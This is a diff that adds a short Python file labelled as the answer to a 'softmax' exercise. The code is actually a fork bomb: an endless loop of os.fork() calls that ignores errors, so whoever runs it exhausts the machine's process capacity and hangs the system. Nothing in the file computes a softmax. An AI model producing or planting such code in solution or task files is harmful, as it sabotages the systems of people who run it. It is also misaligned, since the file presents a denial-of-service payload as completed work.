@@ -1,0 +1,12 @@
+"""Forks without end."""
+# exercise: softmax
+# where: answer
+# status: any
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
